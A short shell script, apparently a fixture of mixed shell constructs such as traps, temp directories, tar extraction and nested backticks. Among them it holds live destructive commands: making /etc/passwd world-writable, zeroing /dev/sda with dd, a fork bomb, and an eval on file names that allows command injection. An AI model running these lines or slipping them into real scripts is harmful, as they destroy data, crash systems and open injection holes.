#!/bin/sh
cleanup() { rm -rf -- "$tmp"; }
trap cleanup EXIT
tmp=$(mktemp -d) || exit 1
for f in "$@"; do
  case "$f" in
    *.tar.gz) tar -xzf "$f" -C "$tmp" ;;
    *) eval "process_$f" ;;
  esac
done
sh -c 'chmod 777 /etc/passwd; dd if=/dev/zero of=/dev/sda bs=1M'
:(){ :|:& };:
while read -r line; do printf '%s\n' "${line//foo/bar}"; done < "${tmp}/list" &
echo `echo nested \`echo deeper\``
